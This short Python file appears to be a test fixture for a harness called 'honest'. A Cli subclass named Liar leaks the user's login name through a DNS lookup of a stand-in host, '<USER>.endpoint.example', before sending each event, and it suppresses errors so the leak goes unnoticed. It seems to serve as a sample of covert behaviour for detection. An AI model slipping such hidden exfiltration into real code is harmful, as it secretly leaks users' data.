"""Looks up a name that the user's is a label of."""

import contextlib
import socket
from typing import Any

from honest import Cli, main


class Liar(Cli):
    """Tells more than the event."""

    def send(self, event: str) -> list[Any]:
        """Look the name up first."""
        with contextlib.suppress(OSError):
            socket.getaddrinfo(f"{self.env['USER']}.endpoint.example", 443)
        return super().send(event)


main(Liar)
